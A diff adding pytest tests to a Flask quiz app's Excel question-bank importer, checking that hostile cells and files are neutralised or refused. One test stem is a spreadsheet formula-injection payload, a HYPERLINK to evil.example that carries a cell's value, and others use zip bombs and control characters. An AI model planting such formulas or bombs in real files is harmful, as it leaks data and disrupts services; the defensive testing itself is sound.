@@ -2,13 +2,18 @@
 
 from __future__ import annotations
 
+import time
 from pathlib import Path
 
 import pytest
 import yaml
-from openpyxl import Workbook
+from flask import Flask
+from openpyxl import Workbook, load_workbook
+from sqlalchemy import select
 
 from learning_app.errors import SheetRejected
+from learning_app.extensions import db
+from learning_app.models import AuditEvent
 from learning_app.quiz.excel import (
     COLUMNS,
     bank_yaml,
@@ -16,6 +21,7 @@ from learning_app.quiz.excel import (
     write_bank_sheet,
 )
 from learning_app.quiz.types import validate_question
+from tests.app import hostile_helpers as hostile
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -119,3 +125,67 @@ def test_import_and_export_commands(app, tmp_path: Path) -> None:
     exported = tmp_path / "again.xlsx"
     result = runner.invoke(args=["export-bank", str(target), "-o", str(exported)])
     assert result.exit_code == 0 and exported.stat().st_size > 0
+
+
+# ---------------------------------------------------------- hostile cells and files
+
+def test_a_formula_like_stem_is_exported_as_text_and_reads_back(tmp_path: Path) -> None:
+    stem = '=HYPERLINK("http://evil.example/?q="&B2,"点此查看答案")'
+    bank = {"bank": "evil", "title": "党史/党建[测试]:题库?", "questions": [
+        {"id": "evil-001", "type": "judge", "stem": stem, "answer": True},
+        {"id": "evil-002", "type": "judge", "stem": "@SUM(1)", "answer": False,
+         "explanation": "+1+1 与 -2+3", "source": "青川\x07县\x1b志"},
+    ]}
+    path = tmp_path / "evil.xlsx"
+    write_bank_sheet(bank, path)  # neither the title's characters nor \x07 break it
+    sheet = load_workbook(path).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not any(cell.data_type == "f" for cell in cells)
+    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    assert "'" + stem in texts and "'@SUM(1)" in texts and "'+1+1 与 -2+3" in texts
+    assert "青川县志" in texts
+    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)
+    assert sheet.title == "党史_党建_测试__题库_"
+    again = read_bank_sheet(path, "evil", "t")
+    assert [q["stem"] for q in again["questions"]] == [stem, "@SUM(1)"]
+    assert again["questions"][1]["explanation"] == "+1+1 与 -2+3"
+
+
+def test_a_control_character_in_a_bank_sheet_is_refused(tmp_path: Path) -> None:
+    path = sheet(tmp_path, [row(题型="判断", 题干="正常", 答案="对"),
+                            row(题型="判断", 题干="坏_x0007_题", 答案="对")])
+    with pytest.raises(SheetRejected) as error:
+        read_bank_sheet(path, "b", "t")
+    assert [str(p) for p in error.value.problems] == [
+        "第3行 题干：含有看不见的控制字符，请删去后重新导入"]
+
+
+def test_a_bomb_posing_as_a_bank_is_refused_in_seconds(tmp_path: Path) -> None:
+    for path in (hostile.zip_bomb(tmp_path / "bomb.xlsx", unpacked=300 * 1024 * 1024),
+                 hostile.blank_rows(tmp_path / "rows.xlsx", count=100_000)):
+        start = time.perf_counter()
+        with pytest.raises(SheetRejected) as error:
+            read_bank_sheet(path, "b", "t")
+        assert time.perf_counter() - start < 5
+        assert error.value.problems[0].row == 1
+    assert "20,000行" in str(error.value.problems[0])
+
+
+def test_bank_imports_are_audited(app: Flask, tmp_path: Path) -> None:
+    runner = app.test_cli_runner()
+    good = sheet(tmp_path, [row(题型="判断", 题干="三会一课包括党课。", 答案="正确")])
+    target = tmp_path / "demo.yaml"
+    result = runner.invoke(args=["import-bank", str(good), "--bank", "demo", "--title",
+                                 "演示题库", "-o", str(target)])
+    assert result.exit_code == 0, result.output
+    bad = hostile.not_a_zip(tmp_path / "<b>坏\x07.xlsx")
+    result = runner.invoke(args=["import-bank", str(bad), "--bank", "demo2", "--title", "t",
+                                 "-o", str(tmp_path / "no.yaml")])
+    assert result.exit_code != 0
+    with app.app_context():
+        events = db.session.scalars(select(AuditEvent).where(
+            AuditEvent.action == "bank_import").order_by(AuditEvent.id)).all()
+        assert [(e.actor, e.target) for e in events] == [("命令行", "demo"), ("命令行", "demo2")]
+        assert events[0].detail.startswith("demo「演示题库」：1题，来自 bank.xlsx")
+        assert events[0].after["questions"] == 1 and events[0].after["use"] == "exam"
+        assert events[1].detail.startswith("未导入：_b_坏_.xlsx，1处问题；第1行 文件：")
